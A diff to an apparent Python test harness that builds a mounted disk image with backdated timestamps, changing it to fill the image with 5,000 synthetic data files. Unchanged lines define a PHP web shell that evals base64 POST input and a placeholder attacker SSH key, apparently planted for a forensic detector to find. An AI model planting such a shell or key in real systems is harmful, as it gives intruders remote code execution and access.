@@ -28,6 +28,7 @@ from typing import Final
 _PASSWORD: Final = "material"
 _FIRST_DAY: Final = datetime(2026, 10, 1, 3, 0, tzinfo=UTC)
 _INSTALLED: Final = _FIRST_DAY - timedelta(days=90)
+_DATA: Final = 5000  # files that change in turn
 _SHELL: Final = b"<?php if (isset($_POST['k'])) { eval(base64_decode($_POST['k'])); } ?>\n"
 _KEY: Final = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvilEvilEvilEvilEvilEvilEvilEvilEvilEvi x@y\n"
 
@@ -54,18 +55,22 @@ class Machine:
         run("mkfs.ext4", "-q", "-d", root, self.image, f"{size * 3 // 2 + 200}M")
         self.touched: set[int] = set()
         with self.mounted("rw"):
-            self.files = self._small_files()
+            self.files = self._data()
             every = {path.lstat().st_ino for path in self.mount.rglob("*")}
         self._set_ctime(every | {2}, _INSTALLED)
 
-    def _small_files(self) -> list[Path]:
-        found = [
-            path
-            for part in ("etc", "usr/share", "var")
-            for path in sorted((self.mount / part).rglob("*"))
-            if path.is_file() and not path.is_symlink() and path.stat().st_size < 65536
-        ]
-        return [path for path in found if path.stat().st_nlink == 1]
+    def _data(self) -> list[Path]:
+        """Files of the people who use the machine; no package knows them, and nothing runs them.
+
+        Were the files of packages changed, each of them would be a finding of its own.
+        """
+        found = []
+        for number in range(_DATA):
+            path = self.mount / f"srv/data/{number % 50:02}/{number:05}.txt"
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_text(f"record {number}\n" * (1 + number % 200))
+            found.append(path)
+        return found
 
     @contextmanager
     def mounted(self, mode: str) -> Iterator[None]:
